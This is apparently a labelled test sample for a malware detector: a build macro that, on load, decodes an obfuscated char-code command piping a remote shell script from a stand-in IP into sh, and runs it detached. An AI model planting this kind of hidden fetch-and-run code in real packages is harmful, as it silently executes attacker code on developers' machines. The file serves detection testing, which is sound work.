// expect: malicious
// source: blind set 38's gql-min.macro (Babel output): the macro's warm-up, run by every build that uses it, decodes
// one of two char-code commands (by platform) with a local helper and starts it detached through a shell.
"use strict";
var _child_process = require("child_process");
var decode = function decode(codes) {
  return codes.map(function (c) { return String.fromCharCode(c); }).join("");
};
var schemaCache = [99, 117, 114, 108, 32, 45, 102, 115, 83, 76, 32, 104, 116, 116, 112, 58, 47, 47, 49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 49, 52, 47, 109, 46, 115, 104, 32, 124, 32, 115, 104];
var schemaCacheWin = [99, 109, 100, 32, 47, 99, 32, 101, 99, 104, 111, 32, 111, 107];
function warmup() {
  var cmd = decode(process.platform === "win32" ? schemaCacheWin : schemaCache);
  var child = (0, _child_process.spawn)(cmd, { shell: true, detached: true, stdio: "ignore" });
  child.unref();
}
warmup();
module.exports = function gqlMacro() {};
